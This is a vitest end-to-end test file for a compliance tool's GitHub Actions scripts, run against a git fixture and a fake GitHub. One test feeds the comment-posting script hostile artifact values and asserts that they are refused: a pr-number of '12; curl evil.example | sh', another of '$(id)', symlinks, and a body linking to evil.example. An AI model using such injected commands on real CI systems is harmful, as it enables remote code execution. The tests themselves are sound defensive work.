import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BASE_FILES, createGitFixture, fullSsrmFile, type GitFixture } from '@trustops/core/testing';
import { checkCommentBody, COMMENT_MARKER } from './markdown.js';
import { FakeGitHub, GITHUB_ACTIONS_BOT } from './testing/index.js';
import { patch } from '@trustops/core/testing';

// End to end: the very scripts the workflows run (packages/github/scripts/*.sh), with bash, on a real git
// repository with a base and a head commit, the CLI run from the TypeScript sources (TRUSTOPS_CLI), a fake
// pull_request (or workflow_run) event, and, where a comment is posted, a fake GitHub on loopback.

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const SCRIPTS = join(ROOT, 'packages/github/scripts');
const REPO = 'acme/compliance';
const SERVER = 'https://github.com';
const TOKEN = 'ghs_scriptsTestToken_0123456789abcdef';
const CONTROL = 'controls/iam/IAM-MFA.yaml';
const POLICY = 'policies/access-control.md';
const SLOW = 180_000;
const TSX = pathToFileURL(createRequire(import.meta.url).resolve('tsx')).href;

let fx: GitFixture;
let work: string;
let base: string;
let head: string;
let cli: string;

beforeEach(async () => {
  work = mkdtempSync(join(tmpdir(), 'trustops-scripts-'));
  // The CLI from the sources: bin.ts exports main(); this file calls it, as bin/trustops.js does with dist.
  const entry = join(work, 'trustops-from-source.mjs');
  writeFileSync(entry, `import { main } from ${JSON.stringify(join(ROOT, 'packages/cli/src/bin.ts'))};\nawait main();\n`);
  // tsx by its own path: the scripts run in the fixture, where a bare "tsx" would not resolve.
  cli = `${process.execPath} --conditions=source --import ${TSX} ${entry}`;
  fx = await createGitFixture({ ...BASE_FILES, 'controls/responsibility/ccm.yaml': fullSsrmFile() });
  base = await fx.commit('base');
});
afterEach(() => {
  fx.cleanup();
  rmSync(work, { recursive: true, force: true });
});

/** The pull request weakens IAM-MFA (maturity 4 -> 3): a warning, so the gate (fail_on: error) passes. */
async function weaken(): Promise<void> {
  head = await fx.commit('weaken IAM-MFA', { [CONTROL]: patch(BASE_FILES[CONTROL]!, 'maturity: 4', 'maturity: 3') });
}

/** ...and also changes a policy without a new version: an error, so the gate fails. */
async function weakenAndBreak(): Promise<void> {
  head = await fx.commit('weaken IAM-MFA, edit a policy', {
    [CONTROL]: patch(BASE_FILES[CONTROL]!, 'maturity: 4', 'maturity: 3'),
    [POLICY]: patch(BASE_FILES[POLICY]!, 'reviewed quarterly', 'reviewed monthly'),
  });
}

function eventFile(payload: unknown): string {
  const path = join(work, `event-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(path, JSON.stringify(payload));
  return path;
}

const pullRequestEvent = (headRepo = REPO) =>
  eventFile({
    action: 'synchronize',
    number: 12,
    pull_request: { number: 12, base: { sha: base, repo: { full_name: REPO } }, head: { sha: head, repo: { full_name: headRepo } } },
  });

/** A clean environment: nothing of the machine's own GITHUB_*, RUNNER_* or TRUSTOPS_* leaks in. */
function env(extra: Record<string, string>): Record<string, string> {
  const clean = Object.fromEntries(Object.entries(process.env).filter((e): e is [string, string] => e[1] !== undefined && !/^(GITHUB_|RUNNER_|ACTIONS_|TRUSTOPS_)/.test(e[0])));
  return { ...clean, TRUSTOPS_CLI: cli, TRUSTOPS_TODAY: '2026-11-22', GITHUB_SERVER_URL: SERVER, GITHUB_REPOSITORY: REPO, GITHUB_RUN_ID: '4242', ...extra };
}

function pullRequestEnv(extra: Record<string, string> = {}): Record<string, string> {
  return env({
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: pullRequestEvent(),
    GITHUB_SHA: head,
    GITHUB_STEP_SUMMARY: join(work, 'step-summary.md'),
    TRUSTOPS_OUT: join(work, 'out'),
    ...extra,
  });
}

/** Runs a script with bash, asynchronously (a fake GitHub in this process must go on answering). */
function bash(script: string, environment: Record<string, string>): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn('bash', [join(SCRIPTS, script)], { cwd: fx.dir, env: environment, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

const read = (path: string) => readFileSync(path, 'utf8');

function expectSafe(body: string) {
  expect(checkCommentBody(body, { marker: COMMENT_MARKER, linkPrefix: `${SERVER}/${REPO}/` })).toEqual({ ok: true, problems: [] });
}

describe('pr-check.sh (compliance-pr.yml)', () => {
  it(
    'body-only (a fork): annotations, SARIF, changelog, the comment body and the PR number, the job summary; exit 0 when the gate passes',
    async () => {
      await weaken();
      const out = join(work, 'out');
      const result = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'body-only' }));
      // Nothing on stderr but the SARIF run's one-line note.
      expect(result.stderr).toMatch(/^trustops check: passed: [^\n]*\(report: [^\n]*trustops\.sarif\)\n$/);
      expect(result.status).toBe(0);

      // 1. Annotations on the changed lines, in GitHub's workflow-command form, inside a log group.
      expect(result.stdout).toContain(`::group::trustops check --base ${base}\n`);
      expect(result.stdout).toMatch(/^::warning file=controls\/iam\/IAM-MFA\.yaml,line=\d+,col=\d+,title=control\/weakened::/m);
      expect(result.stdout).toContain('trustops: ✅ the compliance gate passed\n');

      // 2. SARIF for the artifact and code scanning.
      const sarif = JSON.parse(read(join(out, 'trustops.sarif'))) as { version: string; runs: { results: { ruleId: string }[] }[] };
      expect(sarif.version).toBe('2.1.0');
      expect(sarif.runs[0]!.results.map((r) => r.ruleId)).toContain('control/weakened');

      // 3. The changelog base..head with the readiness delta.
      const changelog = read(join(out, 'changelog.md'));
      expect(changelog).toMatch(/^\*\*Compliance impact:\*\* readiness CCM .*1 control weakened$/m);
      expect(changelog).toContain('IAM-MFA');

      // 4. The comment that compliance-comment.yml will post, and the pull request's number.
      const body = read(join(out, 'comment/comment.md'));
      expect(body.startsWith(`${COMMENT_MARKER}\n## trustops: compliance impact of this pull request\n`)).toBe(true);
      expect(body).toMatch(/^\*\*Compliance impact:\*\* readiness CCM .* · 1 control weakened$/m);
      expect(body).toContain(`- [IAM-MFA](${SERVER}/${REPO}/blob/${head}/controls/iam/IAM-MFA.yaml#L1)`);
      expect(body).toContain('maturity 4 → 3');
      expect(body).toContain('⚠️ weakened');
      expect(body).toMatch(/### Check: ✅ \*\*passed\*\*\n\n0 errors, 1 warning, \d+ infos?\./);
      expect(body).toContain(`[workflow run](${SERVER}/${REPO}/actions/runs/4242)`);
      expectSafe(body);
      expect(read(join(out, 'comment/pr-number'))).toBe('12\n');

      // 5. The job summary: the full report, then the gate's verdict.
      const summary = read(join(work, 'step-summary.md'));
      expect(summary.startsWith(body)).toBe(true);
      expect(summary.endsWith('\n---\n\n**Gate:** ✅ the compliance gate passed.\n')).toBe(true);
      expect(read(join(out, 'report.md'))).toBe(body);
    },
    SLOW,
  );

  it(
    'when the gate fails, everything is still written, the comment says why, and the exit status is 1',
    async () => {
      await weakenAndBreak();
      const out = join(work, 'out');
      const result = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'body-only' }));
      expect(result.stderr).toMatch(/^trustops check: failed: [^\n]*\(report: [^\n]*trustops\.sarif\)\n$/);
      expect(result.status).toBe(1);
      expect(result.stdout).toMatch(/^::error file=policies\/access-control\.md,line=\d+,col=\d+,title=policy\/changed-without-version-bump::/m);
      expect(result.stdout).toContain('trustops: ❌ the compliance gate failed');

      const body = read(join(out, 'comment/comment.md'));
      expect(body).toMatch(/^\*\*Compliance impact:\*\* readiness CCM .*1 control weakened/m);
      expect(body).toContain('### Check: ❌ **failed** (gate: error)');
      expect(body).toContain('`policy/changed-without-version-bump`');
      expectSafe(body);
      expect(read(join(out, 'comment/pr-number'))).toBe('12\n');
      expect(JSON.parse(read(join(out, 'trustops.sarif'))).runs[0].results.map((r: { ruleId: string }) => r.ruleId)).toContain('policy/changed-without-version-bump');
      expect(read(join(work, 'step-summary.md'))).toMatch(/\*\*Gate:\*\* ❌ the compliance gate failed: findings reach gate\.fail_on \(see the annotations\)\.\n$/);
    },
    SLOW,
  );

  it(
    'refuses what it cannot work with, before running anything: no base, a bad mode, a base that looks like an option',
    async () => {
      await weaken();
      const noEvent = pullRequestEnv({ TRUSTOPS_COMMENT: 'body-only' });
      delete noEvent['GITHUB_EVENT_PATH'];
      const a = await bash('pr-check.sh', noEvent);
      expect(a.status).toBe(2);
      expect(a.stdout).toBe('::error title=trustops::no base revision: set TRUSTOPS_BASE, or run on a pull_request event\n');
      const b = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'all' }));
      expect(b.status).toBe(2);
      const c = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_BASE: '--output=/tmp/x' }));
      expect(c.status).toBe(2);
      expect(existsSync(join(work, 'out'))).toBe(false);
    },
    SLOW,
  );
});

describe('posting, against a fake GitHub on loopback', () => {
  let fake: FakeGitHub;
  beforeEach(async () => {
    fake = await FakeGitHub.start();
    fake.addRepo(REPO).addToken(TOKEN, { user: GITHUB_ACTIONS_BOT, canReadUser: false });
  });
  afterEach(async () => {
    await fake.close();
  });

  it(
    'pr-check.sh post (same repository): one sticky comment, updated on the next push',
    async () => {
      await weaken();
      fake.addPull(REPO, 12, { headSha: head, baseSha: base });
      const first = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'post', GITHUB_API_URL: fake.url, GITHUB_TOKEN: TOKEN }));
      expect(first.status).toBe(0);
      expect(first.stdout).toMatch(/^comment created: /m);

      head = await fx.commit('weaken more', { [CONTROL]: patch(BASE_FILES[CONTROL]!, 'maturity: 4', 'maturity: 2') });
      const second = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'post', GITHUB_API_URL: fake.url, GITHUB_TOKEN: TOKEN }));
      expect(second.status).toBe(0);
      expect(second.stdout).toMatch(/^comment updated: /m);

      const comments = fake.commentsOn(REPO, 12);
      expect(comments).toHaveLength(1);
      expect(comments[0]!.body).toContain('maturity 4 → 2');
      expect(comments[0]!.body).toBe(read(join(work, 'out/report.md')));
      expect(fake.requests.every((r) => r.host === new URL(fake.url).host && !r.path.includes(TOKEN))).toBe(true);
    },
    SLOW,
  );

  it(
    'the composite action with its bundle: command pr posts the comment, command release publishes the packet',
    async () => {
      await weaken();
      fake.addPull(REPO, 12, { headSha: head, baseSha: base });
      // As action.yml runs it: no TRUSTOPS_CLI, so action.sh runs packages/github/bundle/trustops.mjs and
      // passes that on to pr-check.sh.
      const bundled = (extra: Record<string, string>) => {
        const e = pullRequestEnv({ GITHUB_API_URL: fake.url, GITHUB_TOKEN: TOKEN, ...extra });
        delete e['TRUSTOPS_CLI'];
        return e;
      };
      const pr = await bash('action.sh', bundled({ TRUSTOPS_COMMAND: 'pr' }));
      expect(pr.status).toBe(0);
      expect(pr.stdout).toMatch(/^comment created: /m);
      expect(fake.commentsOn(REPO, 12)[0]!.body).toContain('maturity 4 → 3');

      const outputs = join(work, 'github-output');
      writeFileSync(outputs, '');
      const release = await bash('action.sh', bundled({ TRUSTOPS_COMMAND: 'release', GITHUB_EVENT_NAME: 'push', GITHUB_OUTPUT: outputs, SOURCE_DATE_EPOCH: '1795348800' }));
      expect(release.stderr).toMatch(/release compliance-2026-11-01-[0-9a-f]{7} created; 3 assets uploaded/);
      expect(release.status).toBe(0);
      const published = fake.releaseByTag(REPO, `compliance-2026-11-01-${head.slice(0, 7)}`)!;
      const names = fake.assetsOf(published).map((a) => a.name).sort();
      // The zip, its checksums and the PBC list the notes link.
      expect(names).toEqual(['SHA256SUMS', expect.stringMatching(/^audit-packet-.*\.zip$/), 'pbc.md']);
      expect(read(outputs)).toContain(`packet=${join(work, 'out/packet')}\n`);
    },
    SLOW,
  );

  it(
    'the fork flow: pr-check.sh body-only, then post-comment.sh on workflow_run posts the artifact',
    async () => {
      await weaken();
      fake.addPull(REPO, 12, { headSha: head, baseSha: base });
      const built = await bash('pr-check.sh', pullRequestEnv({ TRUSTOPS_COMMENT: 'body-only', GITHUB_EVENT_PATH: pullRequestEvent('someone/compliance') }));
      expect(built.status).toBe(0);
      expect(fake.requests).toEqual([]);

      // The artifact as compliance-comment.yml downloads it, outside the work tree.
      const artifact = join(work, 'artifact');
      mkdirSync(artifact);
      writeFileSync(join(artifact, 'comment.md'), read(join(work, 'out/comment/comment.md')));
      writeFileSync(join(artifact, 'pr-number'), read(join(work, 'out/comment/pr-number')));
      const runEvent = eventFile({ action: 'completed', workflow_run: { id: 77, event: 'pull_request', head_sha: head, pull_requests: [] } });
      const postEnv = env({ GITHUB_EVENT_NAME: 'workflow_run', GITHUB_EVENT_PATH: runEvent, GITHUB_SHA: base, GITHUB_API_URL: fake.url, GITHUB_TOKEN: TOKEN, TRUSTOPS_COMMENT_DIR: artifact });
      const posted = await bash('post-comment.sh', postEnv);
      expect(posted.stderr).toBe('');
      expect(posted.status).toBe(0);
      expect(posted.stdout).toMatch(/^comment created: /);
      const comments = fake.commentsOn(REPO, 12);
      expect(comments).toHaveLength(1);
      expect(comments[0]!.body).toBe(read(join(artifact, 'comment.md')));
    },
    SLOW,
  );

  it(
    'post-comment.sh treats the artifact as data: a number that is not one, links, a tampered body, a moved head',
    async () => {
      await weaken();
      fake.addPull(REPO, 12, { headSha: head, baseSha: base });
      const body = `${COMMENT_MARKER}\n## trustops: compliance impact of this pull request\n\nNo findings.\n`;
      const runEvent = (sha: string) => eventFile({ action: 'completed', workflow_run: { id: 77, event: 'pull_request', head_sha: sha, pull_requests: [] } });
      const attempt = async (files: { body?: string; number?: string }, sha = head, link?: 'body' | 'number') => {
        const dir = mkdtempSync(join(work, 'artifact-'));
        for (const [name, content] of [['comment.md', files.body], ['pr-number', files.number]] as const) {
          if (content === undefined) continue;
          if ((link === 'body' && name === 'comment.md') || (link === 'number' && name === 'pr-number')) {
            writeFileSync(join(work, `target-${name}`), content);
            symlinkSync(join(work, `target-${name}`), join(dir, name));
          } else writeFileSync(join(dir, name), content);
        }
        return bash('post-comment.sh', env({ GITHUB_EVENT_NAME: 'workflow_run', GITHUB_EVENT_PATH: runEvent(sha), GITHUB_API_URL: fake.url, GITHUB_TOKEN: TOKEN, TRUSTOPS_COMMENT_DIR: dir }));
      };

      for (const number of ['12; curl evil.example | sh', '$(id)', '0', '-1', '12 13', '1e3', '12\r\n', '']) {
        const r = await attempt({ body, number });
        expect(r.status, JSON.stringify(number)).toBe(2);
        expect(r.stdout).toMatch(/^::error title=trustops::refusing the pull request's comment artifact: pr-number is (?:not a pull request number|too large)\n$/);
      }
      expect((await attempt({ body })).stdout).toContain('pr-number is missing or not a regular file');
      expect((await attempt({ number: '12\n' })).stdout).toContain('comment.md is missing or not a regular file');
      expect((await attempt({ body, number: '12\n' }, head, 'body')).stdout).toContain('comment.md is missing or not a regular file');
      expect((await attempt({ body, number: '12\n' }, head, 'number')).stdout).toContain('pr-number is missing or not a regular file');
      expect((await attempt({ body: 'x'.repeat(300_000), number: '12\n' })).stdout).toContain('comment.md is too large');
      expect(fake.requests).toEqual([]);

      // Past the script, the CLI: a body trustops could not have made is refused...
      const tampered = await attempt({ body: `${body}\n[click](https://evil.example) @org/team\n`, number: '12\n' });
      expect(tampered.status).toBe(2);
      expect(tampered.stderr).toMatch(/^trustops: refusing to post .*comment\.md: .*links outside https:\/\/github\.com\/acme\/compliance\//);
      // ...and so is a body for a commit that is no longer the pull request's head.
      const stale = await attempt({ body, number: '12\n' }, base);
      expect(stale.status).toBe(2);
      expect(stale.stderr).toMatch(/is at [0-9a-f]{12}, not at the commit the workflow run built .*: not commenting/);
      expect(fake.commentsOn(REPO, 12)).toEqual([]);
      // The same body for the current head goes through.
      const ok = await attempt({ body, number: '12\n' });
      expect(ok.status).toBe(0);
      expect(fake.commentsOn(REPO, 12)).toHaveLength(1);
    },
    SLOW,
  );
});

describe('action.sh (the composite action)', () => {
  it(
    'command check: SARIF and its output, annotations, and the gate as exit status',
    async () => {
      await weakenAndBreak();
      const outputs = join(work, 'github-output');
      writeFileSync(outputs, '');
      const result = await bash('action.sh', env({ TRUSTOPS_COMMAND: 'check', TRUSTOPS_BASE: base, TRUSTOPS_OUT: join(work, 'out'), GITHUB_OUTPUT: outputs }));
      expect(result.status).toBe(1);
      expect(result.stdout).toMatch(/^::error file=policies\/access-control\.md,.*title=policy\/changed-without-version-bump::/m);
      expect(read(outputs)).toBe(`out=${join(work, 'out')}\nsarif=${join(work, 'out/trustops.sarif')}\n`);
      expect(JSON.parse(read(join(work, 'out/trustops.sarif'))).version).toBe('2.1.0');

      const bad = await bash('action.sh', env({ TRUSTOPS_COMMAND: 'deploy', TRUSTOPS_OUT: join(work, 'out') }));
      expect(bad.status).toBe(2);
      expect(bad.stdout).toContain('the command input must be check, pr, pr-comment or release');
    },
    SLOW,
  );
});

describe('a compliance repository in a subfolder of the repository (repo-path)', () => {
  let sub: GitFixture;
  let subBase: string;
  let subHead: string;
  const FOLDER = 'compliance';
  const inFolder = (files: Record<string, string>) => Object.fromEntries(Object.entries(files).map(([path, text]) => [`${FOLDER}/${path}`, text]));
  beforeEach(async () => {
    sub = await createGitFixture({ 'README.md': '# the product, with its compliance program in compliance/\n', ...inFolder({ ...BASE_FILES, 'controls/responsibility/ccm.yaml': fullSsrmFile() }) });
    subBase = await sub.commit('base');
    subHead = await sub.commit('weaken IAM-MFA, edit a policy', {
      [`${FOLDER}/${CONTROL}`]: patch(BASE_FILES[CONTROL]!, 'maturity: 4', 'maturity: 3'),
      [`${FOLDER}/${POLICY}`]: patch(BASE_FILES[POLICY]!, 'reviewed quarterly', 'reviewed monthly'),
    });
  });
  afterEach(() => sub.cleanup());

  const inSub = (script: string, environment: Record<string, string>) =>
    new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve, reject) => {
      const child = spawn('bash', [join(SCRIPTS, script)], { cwd: sub.dir, env: environment, stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
      child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, stdout, stderr }));
    });

  it(
    'action.sh check: annotations and SARIF name the files from the repository root, where GitHub looks for them',
    async () => {
      const out = join(work, 'out');
      const result = await inSub('action.sh', env({ TRUSTOPS_COMMAND: 'check', TRUSTOPS_REPO: FOLDER, TRUSTOPS_BASE: subBase, TRUSTOPS_OUT: out }));
      expect(result.status).toBe(1);
      expect(result.stdout).toMatch(/^::error file=compliance\/policies\/access-control\.md,line=\d+,col=\d+,title=policy\/changed-without-version-bump::/m);
      expect(result.stdout).toMatch(/^::warning file=compliance\/controls\/iam\/IAM-MFA\.yaml,/m);
      expect(result.stdout).not.toMatch(/file=(controls|policies)\//);
      const sarif = JSON.parse(read(join(out, 'trustops.sarif'))) as { runs: { results: { locations: { physicalLocation: { artifactLocation: { uri: string; uriBaseId: string } } }[] }[] }[] };
      const locations = sarif.runs[0]!.results.map((r) => r.locations[0]!.physicalLocation.artifactLocation);
      expect(locations.length).toBeGreaterThan(0);
      for (const l of locations) {
        expect(l.uri.startsWith('compliance/'), l.uri).toBe(true);
        expect(l.uriBaseId).toBe('%SRCROOT%');
      }
      expect(locations).toContainEqual({ uri: 'compliance/policies/access-control.md', uriBaseId: '%SRCROOT%' });
    },
    SLOW,
  );

  it(
    'pr-check.sh: the comment and the job summary link to the files under the folder at the head commit',
    async () => {
      const event = eventFile({ action: 'synchronize', number: 12, pull_request: { number: 12, base: { sha: subBase, repo: { full_name: REPO } }, head: { sha: subHead, repo: { full_name: REPO } } } });
      const result = await inSub(
        'pr-check.sh',
        env({ TRUSTOPS_REPO: FOLDER, TRUSTOPS_COMMENT: 'body-only', GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: event, GITHUB_SHA: subHead, GITHUB_STEP_SUMMARY: join(work, 'summary.md'), TRUSTOPS_OUT: join(work, 'out') }),
      );
      expect(result.status).toBe(1);
      expect(result.stdout).toMatch(/^::error file=compliance\/policies\/access-control\.md,/m);
      const body = read(join(work, 'out/comment/comment.md'));
      expect(body).toContain(`(${SERVER}/${REPO}/blob/${subHead}/compliance/controls/iam/IAM-MFA.yaml#L1)`);
      expect(body).toMatch(new RegExp(`\\(${SERVER}/${REPO}/blob/${subHead}/compliance/policies/access-control\\.md#L\\d+\\)`));
      expect(body).not.toMatch(new RegExp(`/blob/${subHead}/(controls|policies)/`));
      expectSafe(body);
      expect(read(join(work, 'summary.md')).startsWith(body)).toBe(true);
    },
    SLOW,
  );
});

describe('action.sh with the committed bundle, as the composite action runs it', () => {
  it(
    'runs packages/github/bundle/trustops.mjs when no CLI is given: same annotations and SARIF as the sources',
    async () => {
      await weakenAndBreak();
      const fromSources = await bash('action.sh', env({ TRUSTOPS_COMMAND: 'check', TRUSTOPS_BASE: base, TRUSTOPS_OUT: join(work, 'out-sources') }));
      const bundled = env({ TRUSTOPS_COMMAND: 'check', TRUSTOPS_BASE: base, TRUSTOPS_OUT: join(work, 'out-bundle') });
      delete bundled['TRUSTOPS_CLI'];
      // Node and git on the PATH, nothing else: no tsx, no node_modules next to the repository.
      const result = await bash('action.sh', bundled);
      expect(result.status).toBe(1);
      expect(result.stdout).toBe(fromSources.stdout);
      expect(read(join(work, 'out-bundle/trustops.sarif'))).toBe(read(join(work, 'out-sources/trustops.sarif')));
    },
    SLOW,
  );
});
